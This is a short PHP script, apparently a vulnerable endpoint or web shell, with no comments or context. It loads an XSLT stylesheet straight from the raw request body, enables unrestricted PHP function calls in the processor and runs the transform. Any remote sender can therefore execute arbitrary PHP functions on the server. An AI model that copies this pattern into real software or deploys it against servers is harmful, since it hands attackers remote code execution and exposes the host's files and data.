<?php
$x = new DOMDocument(); $x->loadXML('<r/>');
$s = new DOMDocument(); $s->loadXML(file_get_contents('php://input'));
$p = new XSLTProcessor(); $p->registerPHPFunctions(); $p->importStylesheet($s);
echo $p->transformToXml($x);
